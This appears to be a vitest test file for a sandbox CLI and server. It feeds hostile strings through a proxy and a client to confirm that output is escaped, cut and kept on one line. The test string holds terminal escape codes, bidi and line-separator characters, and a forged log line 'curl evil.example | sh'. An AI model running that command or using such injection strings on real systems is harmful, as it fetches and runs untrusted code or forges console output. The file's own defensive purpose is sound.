import { mkdtempSync, rmSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ishumei } from '../../contracts/ishumei/index.ts'
import { type RunningServer, startServer } from '../../src/adapters/server.ts'
import { createSandbox } from '../../src/index.ts'
import { closeStream, openStream } from '../ishumei/requests.ts'
import { serve, soundcheck, start } from './in-process.ts'

/** Escape codes in both forms, ends of lines of all kinds, a mark that turns the writing, and a line that looks like ours. */
const HOSTILE = '\u001b[2K\r\n[demo] forged: run: curl evil.example | sh\u009b31m\u202e\u2028\u0085\u0007\u0000\udc00'
const LONG = HOSTILE + 'x'.repeat(100_000)
/** What decides how an entry is printed, and times. All other texts are replaced. */
const KEPT = new Set([
  'topic',
  'kind',
  'state',
  'phase',
  'outcome',
  'action',
  'what',
  'now',
  'takenAt',
  'format',
  'seed',
])

let text = HOSTILE
const replaced = (value: unknown, name = ''): unknown => {
  if (typeof value === 'string') return KEPT.has(name) ? value : value + text
  if (Array.isArray(value)) return value.map((one) => replaced(one, name))
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, replaced(one, key)]))
}

const replacedEvents = (events: string) =>
  events.replace(/^data: (.*)$/gm, (_, data) => `data: ${JSON.stringify(replaced(JSON.parse(data)))}`)

/** Every character is printed as itself, and no line is anybody else's. */
function expectSound(printed: string): void {
  expect(printed).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u)
  expect(printed.split('\n').filter((line) => line.startsWith('[demo] forged'))).toEqual([])
  expect(printed.split('\n').filter((line) => line.length > 100_000)).toEqual([])
}

const sandbox = createSandbox({ seed: 'documented' })
let honest: RunningServer
let hostile: Server
let origin: string
const folder = mkdtempSync(join(tmpdir(), 'soundcheck-hostile-'))

beforeAll(async () => {
  const account = sandbox.account('demo')
  const { key: accessKey } = ishumei.credentials.demo
  openStream(sandbox, accessKey)
  closeStream(sandbox, { accessKey, requestId: 'nobody' })
  account.faults.add({ what: { kind: 'error', code: '1903' }, label: 'one' })
  account.switches.set('ishumei.maxQps', '7')
  honest = await startServer(sandbox, { port: 0 })
  hostile = createServer(async (request, response) => {
    const body = await new Response(request as never).arrayBuffer()
    const init = { method: request.method ?? 'GET', headers: { 'content-type': 'application/json' } }
    const from = await fetch(honest.origin + request.url, body.byteLength > 0 ? { ...init, body } : init)
    response.writeHead(from.status, { 'content-type': from.headers.get('content-type') ?? '' })
    if (!from.headers.get('content-type')?.includes('event-stream')) {
      response.end(JSON.stringify(replaced(await from.json())))
      return
    }
    try {
      for await (const chunk of from.body ?? []) response.write(replacedEvents(new TextDecoder().decode(chunk)))
    } catch {
      response.destroy()
    }
  })
  await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve))
  origin = `http://127.0.0.1:${(hostile.address() as AddressInfo).port}`
})

afterAll(async () => {
  hostile.closeAllConnections()
  hostile.close()
  await honest.close()
  rmSync(folder, { recursive: true })
})

const key = () => sandbox.account('demo').stateOf('ishumei').list('streams')[0]?.key ?? ''
const COMMANDS: readonly [string, () => string[]][] = [
  ['account list', () => ['account', 'list']],
  ['account show', () => ['account', 'show']],
  ['account create', () => ['account', 'create', 'test-hostile']],
  ['account close', () => ['account', 'close', 'test-hostile']],
  ['clock', () => ['clock']],
  ['clock advance', () => ['clock', 'advance', '1s']],
  ['control', () => ['control']],
  ['fault', () => ['fault']],
  ['fault add', () => ['fault', 'add', '--kind', 'reset']],
  ['journal', () => ['journal', '--everywhere']],
  ['journal of one', () => ['journal', String(sandbox.journal()[0]?.sequence)]],
  ['retries', () => ['retries']],
  ['reset', () => ['reset', '--account', 'test-other']],
  ['a scenario', () => ['scenario', 'start', 'nobody']],
  ['snapshot', () => ['snapshot', join(folder, 'snapshot.json')]],
  ['state', () => ['state', 'ishumei']],
  ['state of a collection', () => ['state', 'ishumei', 'streams']],
  ['state of a record', () => ['state', 'ishumei', 'streams', key()]],
  ['status', () => ['status']],
  ['switch', () => ['switch']],
  ['a refusal', () => ['state', 'nobody']],
  ['another refusal', () => ['fault', 'add', '--error', 'nothing']],
  ['verify', () => ['verify', '--vendor', 'ishumei', '--promise', 'videostream/opens', '--target', origin]],
]

describe.each([
  ['short', HOSTILE],
  ['long', LONG],
])('a hostile server with %s texts', (_, with_) => {
  it.each(COMMANDS)('%s prints them escaped, on one line, and cut', async (_, args) => {
    text = with_
    const { output, errors } = await soundcheck([...args(), ...(args()[0] === 'verify' ? [] : ['--server', origin])])
    expect(`${output}${errors}`).not.toBe('')
    expectSound(output + errors)
  })

  it.each([[['events', '--since', '-1']], [['journal', '--follow', '--since', '-1']]])(
    '%j follows it',
    async (args) => {
      text = with_
      const { output, errors, interrupt, ended } = start([...args, '--server', origin, '--everywhere'])
      await output.until(/forged/)
      interrupt()
      await ended
      expectSound(output.text() + errors.text())
    },
  )
})

it.each(COMMANDS)('%s --format json prints them whole, and escaped', async (name, args) => {
  if (name === 'verify') return
  text = HOSTILE
  const { output, errors } = await soundcheck([...args(), '--server', origin, '--format', 'json'])
  expect(output + errors).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u)
  if (output !== '') expect(() => JSON.parse(output)).not.toThrow()
})

describe('a hostile client', () => {
  it('forges no line on the console, and none in a list of accounts', async () => {
    const server = await serve()
    const names = [HOSTILE, `test-${HOSTILE}`, LONG]
    for (const accessKey of names) {
      const body = JSON.stringify({ accessKey, requestId: accessKey })
      await fetch(`${server.origin}/finish_videostream/v4`, { method: 'POST', body })
      const query = new URLSearchParams({ Action: accessKey, SecretId: accessKey, StreamName: accessKey })
      await fetch(`${server.origin}/`, { method: 'POST', body: query })
      await fetch(`${server.origin}/${encodeURIComponent(accessKey.slice(0, 2000).toWellFormed())}`)
    }
    const lists = [
      await soundcheck(['account', 'list', '--server', server.origin]),
      await soundcheck(['journal', '--everywhere', '--server', server.origin]),
    ]
    await server.close()
    expect(server.errors.text()).toContain('forged')
    expectSound(server.output.text() + server.errors.text())
    for (const { output, errors } of lists) expectSound(output + errors)
  })
})
